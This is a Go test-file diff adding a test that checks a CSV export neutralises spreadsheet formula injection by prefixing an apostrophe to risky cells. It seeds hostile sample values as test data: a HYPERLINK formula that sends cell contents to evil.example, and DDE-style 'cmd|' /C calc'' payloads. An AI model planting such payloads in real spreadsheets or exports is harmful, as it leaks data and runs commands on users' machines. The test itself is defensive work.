@@ -8,6 +8,7 @@ import (
 	"io"
 	"log/slog"
 	"sort"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -303,4 +304,69 @@ func TestExport(t *testing.T) {
 			t.Fatalf("got created %v (%v)", created, err)
 		}
 	})
+}
+
+// TestExportGuardsFormulas: text a person typed that a spreadsheet would run as a formula
+// (an organisation named =HYPERLINK(…), an audit detail starting with @, a budget category
+// starting with +) comes out with an apostrophe before it, in every file; numbers stay numbers.
+func TestExportGuardsFormulas(t *testing.T) {
+	e := newEnv(t)
+	ctx := e.seed(t, "delta")
+	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")`
+	if err := e.ten.CreateOrganisation(ctx, &tenants.Organisation{Kind: tenants.OrgFunder, Name: evil, ShortName: "-2+3"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.log.Record(ctx, "note.add", "organisation", "x", "@SUM(1+1)*cmd|' /C calc'!A0"); err != nil {
+		t.Fatal(err)
+	}
+	tx, _ := database.For(ctx, e.db)
+	if _, err := tx.Update((*budgetLineTable)(nil)).Set("category = ?", "+cmd|' /C calc'!A0").Where("1 = 1").Exec(ctx); err != nil {
+		t.Fatal(err)
+	}
+	ex, _, err := e.svc.Request(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := e.svc.Build(ctx, ex.ID); err != nil {
+		t.Fatal(err)
+	}
+	got, err := e.svc.Download(ctx, ex.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	files := unzip(t, got.Content)
+	for name, rows := range files {
+		for _, r := range rows[1:] {
+			for _, cell := range r {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
+					t.Errorf("%s: cell %q would run as a formula", name, cell)
+				}
+			}
+		}
+	}
+	if !strings.Contains(strings.Join(column(files["organisations.csv"], "name"), "\n"), "'"+evil) {
+		t.Errorf("organisations.csv names: %q", column(files["organisations.csv"], "name"))
+	}
+	if !strings.Contains(strings.Join(column(files["organisations.csv"], "short_name"), "\n"), "'-2+3") {
+		t.Errorf("organisations.csv short names: %q", column(files["organisations.csv"], "short_name"))
+	}
+	if !strings.Contains(strings.Join(column(files["audit_events.csv"], "detail"), "\n"), "'@SUM(1+1)") {
+		t.Errorf("audit_events.csv details: %q", column(files["audit_events.csv"], "detail"))
+	}
+	if c := column(files["budget_lines.csv"], "category"); len(c) == 0 || c[0] != "'+cmd|' /C calc'!A0" {
+		t.Errorf("budget_lines.csv categories: %q", c)
+	}
+	if c := column(files["budget_lines.csv"], "amount_cents"); len(c) == 0 || c[0] != "1250000" {
+		t.Errorf("budget_lines.csv amounts: %q", c)
+	}
+}
+
+type budgetLineTable struct {
+	bun.BaseModel `bun:"table:budget_lines,alias:bl"`
+	database.TenantScoped
+}
+
+func isNumber(s string) bool {
+	_, err := strconv.ParseFloat(s, 64)
+	return err == nil
 }
